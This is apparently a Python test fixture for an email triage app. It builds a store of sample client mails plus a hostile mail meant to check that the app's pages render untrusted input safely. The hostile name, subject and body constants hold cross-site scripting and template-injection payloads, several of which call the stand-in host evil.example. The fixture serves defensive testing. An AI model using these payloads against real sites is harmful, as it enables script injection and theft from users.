"""A store with the mail of a small firm, some of it hostile, for the tests of the page."""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from tests.fakes import Clock, ScriptedChannel, WordClassifier
from triage.app import make_runner, open_store
from triage.messages import MessageRef, RawMessage
from triage.store import inbox

if TYPE_CHECKING:
    from collections.abc import Sequence

    from triage.app import Settings
    from triage.runners.embedded import EmbeddedRunner
    from triage.store.engine import Store

HOUR_S = 3600

HOSTILE_NAME = '"><img src=x onerror=fetch(`//evil.example/n`)> <b>Dana'
HOSTILE_SUBJECT = "<script>document.title='owned'</script> {{ 7*7 }} \u202etxt.exe"
HOSTILE_TEXT = """We are stuck <script src="//evil.example/s.js"></script> since Monday.
I am disappointed <img src="//evil.example/p.gif" onerror="document.title='owned'">.
<svg/onload=document.title='owned'> javascript:document.title='owned' {{ config }} {% raw %}
</textarea></details></main><style>body{display:none}</style><base href="//evil.example/">
<form action="//evil.example/f"><button hx-get="//evil.example/h" hx-trigger="load">ok</button>
"""


@dataclass(frozen=True, kw_only=True)
class Mail:
    """A mail that came in `hours` after the first."""

    text: str
    subject: str = "Portal"
    sender: str = "Dana Reyes <dana@northwind.example>"
    hours: float = 0.0
    thread: str = ""  # Message-ID that it answers


MAILS = (
    Mail(
        subject="Staging login",
        text="Hello,\n\nNobody on our side can log in, we are stuck since Monday. Our testers "
        "are standing still. Could you send us the new accounts by Friday?\n\nDana",
    ),
    Mail(
        subject="October report",
        sender="Sam Ortiz <sam@contoso.example>",
        text="Hi,\n\nI am disappointed with the report. Half of the figures are wrong.\n\nSam",
        hours=1,
    ),
    Mail(
        subject="French pages",
        sender="Ines Moreau <ines@litware.example>",
        text="Good morning,\n\nwe thought the French pages were included in the price.\n\nInes",
        hours=2,
    ),
    Mail(
        subject="Second phase",
        sender="Lee Chan <lee@fabrikam.example>",
        text="Hello,\n\ncould you send a quote for the second phase?\n\nLee",
        hours=3,
    ),
    Mail(
        subject="Perhaps",
        sender="Kim Roy <kim@tailspin.example>",
        text="Hello,\n\nwe are perhaps stuck with the export.\n\nKim",
        hours=4,
    ),
    Mail(
        subject="Lunch",
        sender="Ana Silva <ana@adatum.example>",
        text="Hello,\n\nshall we have lunch on Monday?\n\nAna",
        hours=5,
    ),
)
HOSTILE = Mail(
    subject=HOSTILE_SUBJECT,
    sender=f"{HOSTILE_NAME} <dana@evil.example>",
    text=HOSTILE_TEXT,
    hours=6,
)


def content_of(mail: Mail, number: int) -> bytes:
    """The mail's bytes. Headers are written as they stand, in UTF-8, as a hostile sender would."""
    domain = mail.sender.rpartition("@")[2].rstrip(">")
    name, _, address = mail.sender.rpartition(" ")
    shown = f'"{name.replace(chr(34), chr(92) + chr(34))}" {address}' if name else address
    answers = f"In-Reply-To: {mail.thread}\r\nReferences: {mail.thread}\r\n" if mail.thread else ""
    head = (
        f"From: {shown}\r\nTo: hello@firm.example\r\nSubject: {mail.subject}\r\n"
        f"Message-ID: <w{number}@{domain}>\r\n{answers}"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
    )
    return (head + mail.text.replace("\n", "\r\n") + "\r\n").encode()


def fill(settings: Settings, mails: Sequence[Mail], *, start: float) -> Store:
    """The store of these settings after these mails were judged and their briefs sent."""
    store = open_store(settings.config.store)
    if not mails:
        return store
    clock = Clock(start)
    runner = make_runner(settings, store, ScriptedChannel(), WordClassifier(), clock=clock)
    for number, mail in enumerate(mails, start=1):
        clock.now = start + mail.hours * HOUR_S
        take(runner, store, mail, number, clock.now)
    return store


def take(runner: EmbeddedRunner, store: Store, mail: Mail, number: int, now: float) -> None:
    """One more mail comes in, is judged, and its briefs are sent."""
    content = content_of(mail, number)
    raw = RawMessage(
        ref=MessageRef(account="inbox", folder="INBOX", uid_validity=1, uid=number),
        content=content,
        received_at=datetime.fromtimestamp(now, UTC),
        size=len(content),
    )
    with store.write() as tx:
        inbox.receive(tx, raw, now)
    while runner.decide_some():
        runner.sender.send_due()


def hostile_everywhere() -> tuple[Mail, ...]:
    """The hostile mail for every tag, so that each page meets it."""
    words = ("stuck", "disappointed", "included", "quote", "perhaps stuck")
    return tuple(
        replace(
            HOSTILE, text=f"{word}: {HOSTILE_TEXT}", sender=f"{HOSTILE_NAME} <x{n}@e{n}.example>"
        )
        for n, word in enumerate(words)
    )
